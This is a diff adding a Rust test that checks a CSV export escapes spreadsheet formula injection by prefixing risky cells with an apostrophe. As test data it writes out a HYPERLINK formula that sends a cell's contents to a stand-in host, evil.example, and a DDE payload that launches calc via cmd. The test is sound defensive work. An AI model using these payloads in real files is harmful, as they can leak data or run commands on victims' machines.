@@ -215,3 +215,70 @@ fn csv_quotes_commas_quotes_newlines_and_unicode() {
         text.contains("\"A TV drama, \"\"Silicon Wave\"\", with commas, quotes\nand a newline\"")
     );
 }
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe() {
+    let (mut lib, id) = library_with_highlights();
+    // Post 13 of the seed reads "(accuracy + speed)": a highlight starting with `+`.
+    lib.add_highlight(
+        id,
+        "13",
+        &NewHighlight {
+            exact: "+ speed)".into(),
+            label: Some("Evidence".into()),
+            note: "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")".into(),
+            tags: vec!["@SUM(1+1)".into(), "=1+1".into()],
+            ..Default::default()
+        },
+    )
+    .unwrap();
+    lib.add_highlight(
+        id,
+        "7",
+        &NewHighlight {
+            exact: "Electronics".into(),
+            label: Some("Claim".into()),
+            note: "-1+cmd|' /C calc'!A0\nsecond line, with a comma".into(),
+            ..Default::default()
+        },
+    )
+    .unwrap();
+    let text = export(&lib, &[id], ExportFormat::Csv).unwrap();
+    let mut r = csv::Reader::from_reader(text.as_bytes());
+    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 5);
+    let plus = rows.iter().find(|r| &r[col("post")] == "13").unwrap();
+    assert_eq!(&plus[col("text")], "'+ speed)");
+    assert_eq!(
+        &plus[col("note")],
+        "'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")"
+    );
+    assert_eq!(&plus[col("tags")], "'=1+1, @SUM(1+1)");
+    let minus = rows
+        .iter()
+        .find(|r| &r[col("text")] == "Electronics")
+        .unwrap();
+    assert_eq!(
+        &minus[col("note")],
+        "'-1+cmd|' /C calc'!A0\nsecond line, with a comma"
+    );
+    // No cell of the file starts with a formula character; ordinary cells are as
+    // they were (the unicode and quoting of the other rows is unchanged).
+    for row in &rows {
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would run as a formula"
+            );
+        }
+    }
+    let cjk = rows.iter().find(|r| &r[col("post")] == "142").unwrap();
+    assert_eq!(&cjk[col("text")], "赤热");
+    assert_eq!(
+        &cjk[col("note")],
+        "A TV drama, \"Silicon Wave\", with commas, quotes\nand a newline"
+    );
+    assert_eq!(&rows[0][col("text")], "solid background");
+}
